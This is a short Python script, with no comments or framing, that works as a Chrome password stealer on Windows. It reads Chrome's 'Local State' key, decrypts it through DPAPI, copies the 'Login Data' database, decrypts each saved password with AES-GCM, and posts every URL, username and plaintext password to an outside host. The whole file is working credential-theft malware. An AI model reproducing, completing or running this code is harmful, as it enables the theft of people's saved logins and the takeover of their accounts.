import os, json, base64, sqlite3, shutil
import win32crypt
from Crypto.Cipher import AES
import requests
A = os.getenv("LOCALAPPDATA")
def key():
    with open(A + r"\Google\Chrome\User Data\Local State", "r", encoding="utf-8") as f:
        k = base64.b64decode(json.loads(f.read())["os_crypt"]["encrypted_key"])[5:]
    return win32crypt.CryptUnprotectData(k, None, None, None, 0)[1]
def dec(b, k):
    return AES.new(k, AES.MODE_GCM, b[3:15]).decrypt(b[15:])[:-16].decode()
def run():
    k = key()
    shutil.copyfile(A + r"\Google\Chrome\User Data\default\Login Data", "v.db")
    c = sqlite3.connect("v.db").cursor()
    c.execute("SELECT action_url, username_value, password_value FROM logins")
    out = []
    for u, n, p in c.fetchall():
        out.append(f"{u} {n} {dec(p, k)}")
    requests.post("https://c.example.invalid/u", json={"d": "\n".join(out)})
